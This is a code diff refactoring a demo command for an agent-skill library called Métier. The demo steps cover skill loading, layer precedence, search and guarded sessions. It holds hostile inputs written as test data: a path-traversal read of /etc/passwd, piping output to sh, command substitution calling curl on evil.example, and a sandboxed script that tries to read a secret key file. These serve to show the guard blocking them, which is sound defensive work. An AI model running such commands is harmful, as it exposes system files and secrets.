@@ -17,6 +17,7 @@ import anyio
 import metier
 import metier.agent
 import metier.guard
+import metier.library
 import metier.skill
 import metier.source
 from metier.cli.agents import require_engine
@@ -67,42 +68,38 @@ def add(parser: Parser) -> None:
 def run(options: Namespace) -> None:
     style = Style(sys.stdout)
     with tempfile.TemporaryDirectory(prefix="metier-demo-") as name:
-        folder = Path(name)
-        _bundled(style)
-        _odd_skills(style, folder / "wild")
-        _layers(style, folder)
-        _edited_skill(style, folder / "fresh")
-        _path_containment(style)
-        _search_and_catalog(style)
-        _session_rules(style, folder)
-        _sandboxed(style, folder / "sandboxed")
-        _agent_run(style, folder / "agents")
-        _mcp_server(style)
-        _thousand_skills(style, folder / "many")
+        for number, (title, step) in enumerate(_STEPS.items(), 1):
+            print(f"\n{style.strong(f'{number}. {title}')}\n")
+            folder = Path(name, str(number))
+            folder.mkdir()
+            step(style, folder)
     commands = [style.strong(command) for command in ("metier list", "metier chat", "metier new my-skill")]
     print(f"\nNext: {', '.join(commands)}.")
 
 
-def _title(style: Style, number: int, text: str) -> None:
-    print(f"\n{style.strong(f'{number}. {text}')}\n")
+def _bundled_library() -> metier.Library:
+    place = metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))
+    return metier.Library([place], cache=False)
 
 
-def _bundled(style: Style) -> None:
-    _title(style, 1, "Skills that come with Métier")
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
+def _write_skill(folder: Path, text: str | bytes) -> Path:
+    folder.mkdir(parents=True)
+    file = folder / "SKILL.md"
+    file.write_bytes(text.encode() if isinstance(text, str) else text)
+    return file
+
+
+def _bundled(style: Style, _: Path) -> None:
     rows = [
-        (entry.name, f"{entry.skill.body_tokens:,}", metier.skill.shorten(entry.description, 160)) for entry in library
+        (entry.name, f"{entry.skill.body_tokens:,}", metier.skill.shorten(entry.description, 160))
+        for entry in _bundled_library()
     ]
     print(table(style, ("NAME", "TOKENS", "DESCRIPTION"), rows, paint={0: style.strong}))
 
 
 def _odd_skills(style: Style, folder: Path) -> None:
-    _title(style, 2, "Odd ones from the wild load too, with a precise word on each")
     for name, data in _ODD.items():
-        (folder / name).mkdir(parents=True)
-        (folder / name / "SKILL.md").write_bytes(data)
+        _write_skill(folder / name, data)
     rows = []
     for entry in metier.Library.from_folder(folder, cache=False).entries(all=True):
         found = [note for note in entry.diagnostics if note.code not in ("name-differs-from-folder", "name-missing")]
@@ -112,70 +109,45 @@ def _odd_skills(style: Style, folder: Path) -> None:
 
 
 def _layers(style: Style, folder: Path) -> None:
-    _title(style, 3, "What an administrator deploys cannot be outranked")
-    for layer, extra in (("enterprise", ""), ("project", "priority: 5000\n")):
-        skill = folder / layer / "deploy"
-        skill.mkdir(parents=True)
-        (skill / "SKILL.md").write_text(
-            f"---\nname: deploy\ndescription: The {layer}'s way to deploy.\n{extra}---\nDo it.\n"
-        )
-    library = metier.Library(
-        [
-            metier.Place(layer="project", source=metier.source.FolderSource(folder / "project", name="project")),
-            metier.Place(
-                layer="enterprise", source=metier.source.FolderSource(folder / "enterprise", name="enterprise")
-            ),
-        ],
-        cache=False,
-    )
-    rows = [(entry.name, entry.layer, str(entry.priority), entry.status) for entry in library.entries(all=True)]
+    places = []
+    layers: tuple[tuple[metier.library.Layer, str], ...] = (("project", "priority: 5000\n"), ("enterprise", ""))
+    for layer, extra in layers:
+        text = f"---\nname: deploy\ndescription: The {layer}'s way to deploy.\n{extra}---\nDo it.\n"
+        _write_skill(folder / layer / "deploy", text)
+        places.append(metier.Place(layer=layer, source=metier.source.FolderSource(folder / layer, name=layer)))
+    entries = metier.Library(places, cache=False).entries(all=True)
+    rows = [(entry.name, entry.layer, str(entry.priority), entry.status) for entry in entries]
     print(table(style, ("NAME", "LAYER", "PRIORITY", "STATUS"), rows, paint={0: style.strong}))
 
 
 def _edited_skill(style: Style, folder: Path) -> None:
-    _title(style, 4, "An edit is seen at the very next load")
-    skill = folder / "greet"
-    skill.mkdir(parents=True)
-    file = skill / "SKILL.md"
-    file.write_text("---\nname: greet\ndescription: Greets.\n---\nSay hello.\n")
+    file = _write_skill(folder / "greet", "---\nname: greet\ndescription: Greets.\n---\nSay hello.\n")
     library = metier.Library.from_folder(folder, cache=False)
     before = library.document("greet").body
     file.write_text("---\nname: greet\ndescription: Greets.\n---\nSay Hello.\n")
     print(f"before: {before}\nafter:  {library.document('greet').body}   (same size, same second)")
 
 
-def _path_containment(style: Style) -> None:
-    _title(style, 5, "A path cannot leave its skill")
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
+def _path_containment(style: Style, _: Path) -> None:
     try:
-        library.read("csv-analyst", "../../../etc/passwd")
+        _bundled_library().read("csv-analyst", "../../../etc/passwd")
     except MetierError as error:
         print(f"[{error.code}] {error.message}")
 
 
-def _search_and_catalog(style: Style) -> None:
-    _title(style, 6, "The right skill for a prompt, and a catalog of any size you can afford")
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
+def _search_and_catalog(style: Style, _: Path) -> None:
+    library = _bundled_library()
     prompt = "my nightly job crashed, what do its logs say?"
-    results = library.search(prompt, k=2)
     print(f"search: {prompt}")
-    rows = [(result.name, f"{result.score:.2f}", result.why) for result in results]
+    rows = [(result.name, f"{result.score:.2f}", result.why) for result in library.search(prompt, k=2)]
     print(table(style, ("NAME", "SCORE", "WHY"), rows, paint={0: style.strong}))
     catalog = library.catalog(512, query=prompt, format="markdown")
     print(f"\ncatalog in {catalog.size} of {catalog.budget} bytes:\n{catalog}")
 
 
 def _session_rules(style: Style, folder: Path) -> None:
-    _title(style, 7, "A session: a skill is loaded, and nothing outside its rules happens")
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
     log = metier.guard.MemoryLog()
-    session = library.session(guard=metier.Guard(audit=log), workspace=folder)
+    session = _bundled_library().session(guard=metier.Guard(audit=log), workspace=folder)
     receipt = session.load("release-notes", by="model").active[0]
     print(f"loaded {receipt.name} {receipt.digest[:19]}…")
     for command in ("git log --oneline -5", "git log | sh", "git log $(curl evil.example)", "sudo git show HEAD"):
@@ -188,18 +160,16 @@ def _session_rules(style: Style, folder: Path) -> None:
 
 
 def _sandboxed(style: Style, folder: Path) -> None:
-    _title(style, 8, "A stranger's script runs in a sandbox")
     skill = folder / "skills" / "nosy"
-    (skill / "scripts").mkdir(parents=True)
-    (skill / "SKILL.md").write_text("---\nname: nosy\ndescription: Looks around.\n---\nRun scripts/look.py.\n")
+    _write_skill(skill, "---\nname: nosy\ndescription: Looks around.\n---\nRun scripts/look.py.\n")
+    (skill / "scripts").mkdir()
     (skill / "scripts" / "look.py").write_text(_NOSY)
     (folder / "key").write_text("secret")
     library = metier.Library.from_folder(folder / "skills", cache=False)
+    guard = metier.Guard(audit=metier.guard.MemoryLog())
     with (
         socket.create_server(("127.0.0.1", 0)) as service,
-        library.session(
-            skills=["nosy"], guard=metier.Guard(audit=metier.guard.MemoryLog()), workspace=folder / "work"
-        ) as session,
+        library.session(skills=["nosy"], guard=guard, workspace=folder / "work") as session,
     ):
         try:
             outcome = session.run_blocking("scripts/look.py", [str(folder / "key"), str(service.getsockname()[1])])
@@ -212,22 +182,18 @@ def _sandboxed(style: Style, folder: Path) -> None:
 
 
 def _agent_run(style: Style, folder: Path) -> None:
-    _title(style, 9, "An agent in a file finds and loads the skill that it needs")
     print(f"agents/helper/agent.yaml:\n{textwrap.indent(_AGENT, '  ')}")
-    (folder / "helper").mkdir(parents=True)
-    (folder / "helper" / "agent.yaml").write_text(_AGENT)
+    declared = folder / "agents" / "helper"
+    declared.mkdir(parents=True)
+    (declared / "agent.yaml").write_text(_AGENT)
     try:
         require_engine()
     except PartMissing as error:
         print(f"{error.message} {for_person(error.hint)}")
         return
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
-    agents = metier.agent.Agents.from_folder(folder, library=library)
-    agent = metier.agent.Agent(
-        agents.get("helper"), agents, model="test", audit=metier.guard.MemoryLog(), workspace=folder.parent
-    )
+    agents = metier.agent.Agents.from_folder(folder / "agents", library=_bundled_library())
+    log = metier.guard.MemoryLog()
+    agent = metier.agent.Agent(agents.get("helper"), agents, model="test", audit=log, workspace=folder)
     task = "Which columns does this spreadsheet export have?"
     print(f'$ metier ask "{task}" --agent helper --model test')
 
@@ -242,8 +208,7 @@ def _agent_run(style: Style, folder: Path) -> None:
     anyio.run(main)
 
 
-def _mcp_server(style: Style) -> None:
-    _title(style, 10, "The same skills over MCP, as a client sees them")
+def _mcp_server(style: Style, _: Path) -> None:
     try:
         import mcp
 
@@ -251,10 +216,7 @@ def _mcp_server(style: Style) -> None:
     except ImportError:
         print("This needs the server's part: pip install 'metier[mcp]'")
         return
-    library = metier.Library(
-        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
-    )
-    server = SkillServer(library, audit=metier.guard.MemoryLog())
+    server = SkillServer(_bundled_library(), audit=metier.guard.MemoryLog())
 
     async def main() -> None:
         async with mcp.Client(server.protocol) as client:
@@ -274,14 +236,11 @@ def _mcp_server(style: Style) -> None:
 
 
 def _thousand_skills(style: Style, folder: Path) -> None:
-    _title(style, 11, "A thousand skills")
     for number in range(1_000):
-        skill = folder / f"skill-{number}"
-        skill.mkdir(parents=True)
-        text = f"---\nname: skill-{number}\ndescription: Does the {number}th thing.\nversion: 1.{number}\n---\n"
-        (skill / "SKILL.md").write_text(text + "Do it.\n" * 500)
+        head = f"---\nname: skill-{number}\ndescription: Does the {number}th thing.\nversion: 1.{number}\n---\n"
+        _write_skill(folder / "many" / f"skill-{number}", head + "Do it.\n" * 500)
     start = time.process_time()
-    library = metier.Library.from_folder(folder, cache=folder.parent / "cache")
+    library = metier.Library.from_folder(folder / "many", cache=folder / "cache")
     cold = time.process_time() - start
     time.sleep(0.3)  # files written this instant are looked at twice
     library.refresh()
@@ -290,3 +249,18 @@ def _thousand_skills(style: Style, folder: Path) -> None:
     again = time.process_time() - start
     print(f"found in {cold * 1000:.0f} ms of CPU; looked at again in {again * 1000:.1f} ms,", end=" ")
     print(f"{change.files_read} files read")
+
+
+_STEPS = {
+    "Skills that come with Métier": _bundled,
+    "Odd ones from the wild load too, with a precise word on each": _odd_skills,
+    "What an administrator deploys cannot be outranked": _layers,
+    "An edit is seen at the very next load": _edited_skill,
+    "A path cannot leave its skill": _path_containment,
+    "The right skill for a prompt, and a catalog of any size you can afford": _search_and_catalog,
+    "A session: a skill is loaded, and nothing outside its rules happens": _session_rules,
+    "A stranger's script runs in a sandbox": _sandboxed,
+    "An agent in a file finds and loads the skill that it needs": _agent_run,
+    "The same skills over MCP, as a client sees them": _mcp_server,
+    "A thousand skills": _thousand_skills,
+}
